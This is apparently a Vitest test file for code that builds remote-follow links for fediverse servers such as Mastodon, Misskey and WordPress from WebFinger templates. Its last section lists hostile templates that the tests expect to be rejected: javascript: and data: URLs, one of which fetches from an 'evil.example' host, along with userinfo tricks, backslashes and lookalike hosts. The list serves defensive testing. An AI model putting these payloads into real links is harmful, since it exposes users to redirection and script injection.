import { describe, expect, test } from "vitest";
import { followWayOf } from "#lib/software/follow-way.ts";
import { type FollowFrom, followLink } from "./follow-link.ts";

const target = {
  acct: "maria@newharbour.example",
  uri: "https://newharbour.example/users/maria",
  url: "https://newharbour.example/@maria",
};
const ACTOR = "https%3A%2F%2Fnewharbour.example%2Fusers%2Fmaria";

const FOLLOW = "https://w3id.org/fep/3b86/Follow";
const OBJECT = "https://w3id.org/fep/3b86/Object";
const CREATE = "https://w3id.org/fep/3b86/Create";
const SUBSCRIBE = "http://ostatus.org/schema/1.0/subscribe";

type Templates = readonly (readonly [rel: string, template: string])[];
const from = (software: string, templates: Templates = [], more: Partial<FollowFrom> = {}): FollowFrom => ({
  host: "far.example",
  software,
  templates: templates.map(([rel, template]) => ({ rel, template })),
  way: followWayOf({ name: software, version: "9.9.9" }),
  ...more,
});

describe("the way back", () => {
  const back = "https://housewarming.example/r/abc";
  const BACK = encodeURIComponent(back);

  test("stands where the template has a place for it, and nowhere else", () => {
    const link = (template: string) => followLink(from("mastodon", [[FOLLOW, template]]), { ...target, back });
    expect(link("https://far.example/follow?o={object}&ok={on-success}&no={on-cancel}")).toMatchObject({
      url: `https://far.example/follow?o=${ACTOR}&ok=${BACK}&no=${BACK}`,
    });
    expect(link("https://far.example/follow?o={object}")).toMatchObject({
      url: `https://far.example/follow?o=${ACTOR}`,
    });
  });

  test("makes no follow page of a template that has no place for the account", () => {
    const link = followLink(from("unheard-of", [[FOLLOW, "https://far.example/thanks?to={on-success}"]]), {
      ...target,
      back,
    });
    expect(link.kind).toBe("manual");
  });
});

describe("the way to follow, by software", () => {
  test.each<[string, FollowFrom, string, string]>([
    [
      "Mastodon with intents",
      from("mastodon", [
        [SUBSCRIBE, "https://far.example/authorize_interaction?uri={uri}"],
        [CREATE, "https://far.example/share?text={content}"],
        [OBJECT, "https://far.example/authorize_interaction?uri={object}"],
      ]),
      `https://far.example/authorize_interaction?uri=${ACTOR}`,
      "object",
    ],
    [
      "Mastodon without intents",
      from("mastodon", [[SUBSCRIBE, "https://far.example/authorize_interaction?uri={uri}"]]),
      `https://far.example/authorize_interaction?uri=${ACTOR}`,
      "subscribe",
    ],
    [
      "Mastodon whose WebFinger does not answer",
      from("mastodon"),
      `https://far.example/authorize_interaction?uri=${ACTOR}`,
      "software",
    ],
    [
      "Mastodon on another host than its handles",
      from("mastodon", [], { webHost: "social.far.example" }),
      `https://social.far.example/authorize_interaction?uri=${ACTOR}`,
      "software",
    ],
    [
      "Misskey",
      from("misskey", [[SUBSCRIBE, "https://far.example/authorize-follow?acct={uri}"]]),
      `https://far.example/authorize-follow?acct=${ACTOR}`,
      "subscribe",
    ],
    ["Sharkey", from("sharkey"), `https://far.example/authorize-follow?acct=${ACTOR}`, "software"],
    [
      "Akkoma",
      from("akkoma", [[SUBSCRIBE, "https://far.example/ostatus_subscribe?acct={uri}"]]),
      `https://far.example/ostatus_subscribe?acct=${ACTOR}`,
      "subscribe",
    ],
    ["Pleroma", from("pleroma"), `https://far.example/ostatus_subscribe?acct=${ACTOR}`, "software"],
    [
      "WordPress",
      from("wordpress", [
        [SUBSCRIBE, "https://far.example/wp-json/activitypub/1.0/interactions?uri={uri}"],
        [FOLLOW, "https://far.example/wp-json/activitypub/1.0/interactions?uri={object}&intent=follow"],
        [CREATE, "https://far.example/wp-json/activitypub/1.0/interactions?uri={inReplyTo}&intent=create"],
      ]),
      `https://far.example/wp-json/activitypub/1.0/interactions?uri=${ACTOR}&intent=follow`,
      "follow",
    ],
    ["Friendica", from("friendica"), `https://far.example/authorize_interaction?uri=${ACTOR}`, "software"],
    [
      "Loops",
      from("loops", [[FOLLOW, "https://far.example/intents/follow?object={object}&on-success={on-success}"]]),
      `https://far.example/intents/follow?object=${ACTOR}&on-success=`,
      "follow",
    ],
    [
      "BookWyrm",
      from("bookwyrm", [[SUBSCRIBE, "https://far.example/ostatus_subscribe?acct={uri}"]]),
      `https://far.example/ostatus_subscribe?acct=${ACTOR}`,
      "subscribe",
    ],
    ["Pixelfed", from("pixelfed"), `https://far.example/authorize_interaction?uri=${ACTOR}`, "software"],
    [
      "a place for a handle alone",
      from("new", [[SUBSCRIBE, "https://far.example/f?who={acct}"]]),
      "https://far.example/f?who=maria%40newharbour.example",
      "subscribe",
    ],
    [
      "names of relations in any case",
      from("wordpress", [["HTTPS://w3id.org/fep/3b86/FOLLOW", "https://far.example/f?o={object}"]]),
      `https://far.example/f?o=${ACTOR}`,
      "follow",
    ],
  ])("%s", (_, given, url, via) => {
    expect(followLink(given, target)).toEqual({ kind: "link", url, host: new URL(url).hostname, via });
  });

  test.each(["gotosocial", "hollo", "ghost", "takahe", "something-new"])("%s has no such page", (software) => {
    expect(followLink(from(software), target)).toEqual({ kind: "manual", software });
  });

  test("a Pixelfed from before its page", () => {
    const way = followWayOf({ name: "pixelfed", version: "0.12.3" });
    expect(followLink(from("pixelfed", [], { way }), target).kind).toBe("manual");
  });

  test.each([
    ["Lemmy", "lemmy"],
    ["PeerTube", "peertube"],
    ["Iceshrimp.NET", "iceshrimp.net"],
  ])("%s, whatever its WebFinger names", (_, software) => {
    const named = from(software, [[SUBSCRIBE, "https://far.example/authorize-follow?acct={uri}"]]);
    expect(followLink(named, target)).toEqual({ kind: "manual", software });
  });

  test.each([
    ["a number in its address", { ...target, uri: "https://newharbour.example/ap/users/115" }],
    ["a dot in its name", { ...target, acct: "m.a@newharbour.example", uri: "https://newharbour.example/users/m.a" }],
  ])("BookWyrm, of an account with %s: it would look for somebody else", (_, whom) => {
    expect(followLink(from("bookwyrm"), whom).kind).toBe("manual");
  });

  test("without an address the handle is all there is", () => {
    const { acct } = target;
    expect(followLink(from("mastodon"), { acct })).toMatchObject({
      url: expect.stringContaining("uri=maria%40newharbour"),
    });
  });

  test("nothing known at all", () => {
    expect(followLink({ host: "far.example", templates: [] }, target)).toEqual({ kind: "manual" });
  });
});

describe("hostile templates are passed over", () => {
  test.each([
    ["other host", "https://evil.example/authorize_interaction?uri={uri}"],
    ["script", "javascript:fetch('//evil.example/{uri}')"],
    ["script with a host", "javascript://far.example/%0aalert({uri})"],
    ["data", "data:text/html,{uri}"],
    ["plain http", "http://far.example/authorize_interaction?uri={uri}"],
    ["user information", "https://far.example@evil.example/?uri={uri}"],
    ["user information on the right host", "https://evil.example:x@far.example/?uri={uri}"],
    ["backslash", "https:\\\\evil.example\\far.example?uri={uri}"],
    ["port", "https://far.example:8443/?uri={uri}"],
    ["end of another name", "https://notfar.example/?uri={uri}"],
    ["beginning of another name", "https://far.example.evil.example/?uri={uri}"],
    ["host chosen by the value", "https://{uri}/far.example"],
    ["parent of the host", "https://example/?uri={uri}"],
    ["overlong", `https://far.example/?x=${"x".repeat(2000)}&uri={uri}`],
    ["no place for the value", "https://far.example/follow"],
    ["relative", "/authorize_interaction?uri={uri}"],
    ["empty", ""],
  ])("%s", (_, template) => {
    const templates: Templates = [FOLLOW, OBJECT, SUBSCRIBE].map((rel) => [rel, template] as const);
    expect(followLink(from("gotosocial", templates), target)).toEqual({ kind: "manual", software: "gotosocial" });
    expect(followLink(from("mastodon", templates), target)).toMatchObject({ via: "software", host: "far.example" });
  });

  test("the next one is taken", () => {
    const templates: Templates = [
      [FOLLOW, "https://evil.example/?uri={object}"],
      [SUBSCRIBE, "https://far.example/s?uri={uri}"],
    ];
    expect(followLink(from("mastodon", templates), target)).toMatchObject({ via: "subscribe", host: "far.example" });
  });

  test("a host of the same owner is accepted where somebody can tell", () => {
    const templates: Templates = [[SUBSCRIBE, "https://social.far.example/s?uri={uri}"]];
    const given = from("x", templates, { host: "www.far.example" });
    expect(followLink(given, target).kind).toBe("manual");
    const sameSite = (one: string, other: string) => [one, other].every((host) => host.endsWith("far.example"));
    expect(followLink({ ...given, sameSite }, target)).toMatchObject({ kind: "link", host: "social.far.example" });
  });

  test("the host of WebFinger's subject is one of the server's own", () => {
    const templates: Templates = [[SUBSCRIBE, "https://elsewhere.example/s?uri={uri}"]];
    expect(followLink(from("x", templates, { subjectHost: "elsewhere.example" }), target).kind).toBe("link");
  });
});
